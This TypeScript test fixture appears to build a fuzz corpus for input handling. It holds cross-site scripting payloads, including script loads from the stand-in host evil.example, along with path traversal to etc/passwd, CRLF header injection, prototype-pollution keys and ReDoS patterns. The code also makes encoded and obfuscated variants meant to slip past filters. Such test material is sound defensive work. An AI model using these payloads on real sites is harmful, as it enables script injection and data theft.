import { oneOf, seeded } from './tools.ts';

/*
 * What strangers put into addresses, files and fields: markup that would run, escapes that are
 * broken or doubled, letters that break programs, and far too much of everything.
 */

/** Runs if any page makes markup, code or an address of it. */
const RUNS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=data:text/html,<script>alert(1)</script>>',
  '<a href=javascript:alert(1)>klien</a>',
  '<a href="jav&#x09;ascript:alert(1)">klien</a>',
  '<form action=javascript:alert(1)><button>klien',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '</textarea><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '<mark><img src=x onerror=alert(1)></mark>',
  '<x style="animation-name:x" onanimationstart=alert(1)>',
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{query}}{{count}}{{text}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would run is the point
  '${alert(1)}',
  '`+alert(1)+`',
  "';alert(1)//",
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
];

/** Breaks programs rather than pages. */
const BREAKS = [
  '%',
  '%%%',
  '%E0%A4%A',
  '%C0%AE%C0%AE/',
  '%ED%A0%80',
  '%FF%FE',
  '%00',
  '%0d%0aSet-Cookie:a=1',
  '%u003Cscript%u003E',
  '+++',
  '&q=&q=klien&',
  '#',
  '##q=klien',
  '..%2f..%2f..%2fetc%2fpasswd',
  '//evil.example/',
  '\\\\evil.example\\',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e999',
  '[object Object]',
  '#"]',
  '"]:not(x',
  '*',
  '(a+)+$',
  '(((((((((((((((((((((',
  '[a-z',
  '\\',
  '\u0000',
  '\ud800',
  '\udfff klien',
  '\u202eneilk',
  '\u200b\u200b\u200b',
  '\ufeffklien',
  'K\u0338l\u0338i\u0338e\u0338n\u0338',
  `k${'\u0301'.repeat(400)}`,
  '🙂'.repeat(150),
  '👩‍👩‍👧‍👦 klien',
  'Å ﬃ ß İ ı ǆ',
  'عميل',
  '来访者',
  'klien '.repeat(300),
  `${'a'.repeat(199)}🙂`,
  `${'klien'.repeat(16)}🙂`,
];

/** Far too much: a fragment of up to a million characters. */
export const HUGE: readonly string[] = [
  'a'.repeat(1_000_000),
  'klien '.repeat(100_000),
  '%'.repeat(300_000),
  '<img src=x onerror=alert(1)>'.repeat(20_000),
  '🙂'.repeat(100_000),
  'KBP1.'.repeat(100_000),
  `KBP1.${'A'.repeat(500_000)}`,
  `1.${'A'.repeat(500_000)}`,
  'a '.repeat(200_000),
  '-'.repeat(500_000),
  `${'ab'.repeat(100_000)}!`,
];

/** Encodes as addresses do; half a character stays as it is. */
function encoded(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return value;
  }
}

/** Every other letter in capitals: markup is the same then, a word in a list of words is not. */
const swapped = (value: string) =>
  value.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase()));

/**
 * 500 values and some more, all different (`addresses.spec.ts` counts them): each as it is, most also
 * escaped once or twice, in the clothes that a filter may overlook, cut, or mixed with another.
 */
export const CORPUS: readonly string[] = (() => {
  const random = seeded(350);
  const plain = [...RUNS, ...BREAKS];
  const cut = () => {
    const value = oneOf(random, plain);
    return value.slice(0, Math.ceil(random() * value.length));
  };
  const values = [
    ...plain,
    ...plain.map(encoded),
    ...RUNS.map((value) => encoded(encoded(value))),
    ...RUNS.map((value) => `klien${encoded(` ${value}`)}`),
    ...RUNS.map((value) => encoded(`">${swapped(value)}`)),
    ...RUNS.map((value) => value.replace(/[<>"'=]/g, (sign) => `&#${sign.charCodeAt(0)};`)),
    ...RUNS.map((value) => value.replace(/[a-z]/g, (letter) => `${letter}\u200d`)),
    ...Array.from({ length: 130 }, () => cut() + oneOf(random, ['', '%', '&', '=', ' ']) + cut()),
    ...Array.from({ length: 30 }, () =>
      String.fromCharCode(...Array.from({ length: 40 }, () => Math.floor(random() * 65_536))),
    ),
  ];
  return [...new Set(values)];
})();
